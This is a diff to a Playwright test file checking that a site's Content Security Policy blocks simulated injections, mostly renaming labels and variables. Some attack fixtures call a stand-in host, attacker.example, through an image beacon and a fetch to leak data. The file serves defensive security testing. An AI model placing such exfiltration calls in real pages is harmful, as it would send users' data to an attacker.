@@ -2,7 +2,7 @@ import { expect, test, type Page } from "@playwright/test";
 
 type Attack = { path: string; directive: string; attack: () => unknown };
 
-/** What someone might bring into a page, where the policy must stop it. */
+/** Injections that the policy of a page must block, each with the directive that does so. */
 const attacks: Record<string, Attack> = {
   "an inline script": {
     path: "/",
@@ -39,17 +39,17 @@ const attacks: Record<string, Attack> = {
       form.submit();
     },
   },
-  "a picture that tells": {
+  "a picture that leaks data": {
     path: "/",
     directive: "img-src",
     attack: () => {
-      new Image().src = "https://attacker.example/?told";
+      new Image().src = "https://attacker.example/?leaked";
     },
   },
-  "a request that tells": {
+  "a request that leaks data": {
     path: "/escribir-reseña/",
     directive: "connect-src",
-    attack: () => fetch("https://attacker.example/?told").catch(() => undefined),
+    attack: () => fetch("https://attacker.example/?leaked").catch(() => undefined),
   },
   "the form service where no form is": {
     path: "/",
@@ -74,28 +74,28 @@ const attacks: Record<string, Attack> = {
   },
 };
 
-/** What the policy of a page has stopped. */
-const stopped = (page: Page) =>
-  page.evaluate(() => (window as { stopped?: string[] }).stopped ?? []);
+/** Returns the directives by which the policy has blocked something. */
+const blocked = (page: Page) =>
+  page.evaluate(() => (window as { blocked?: string[] }).blocked ?? []);
 
 for (const [name, { path, directive, attack }] of Object.entries(attacks))
   test(`${name} is stopped`, async ({ page }) => {
-    let isAsked = false;
+    let isRequested = false;
     await page.route("https://attacker.example/**", (route) => {
-      isAsked = true;
+      isRequested = true;
       return route.abort();
     });
     await page.addInitScript(() => {
-      const seen: string[] = Object.assign(window, { stopped: [] }).stopped;
+      const seen: string[] = Object.assign(window, { blocked: [] }).blocked;
       document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) =>
         seen.push(effectiveDirective),
       );
     });
     await page.goto(path);
     await page.evaluate(attack);
-    await expect.poll(() => stopped(page)).toEqual([directive]);
+    await expect.poll(() => blocked(page)).toEqual([directive]);
     expect(await page.title()).not.toBe("attacked");
-    expect(isAsked).toBe(false);
+    expect(isRequested).toBe(false);
   });
 
 test("no other site shows the pages in a frame", async ({ request }) => {
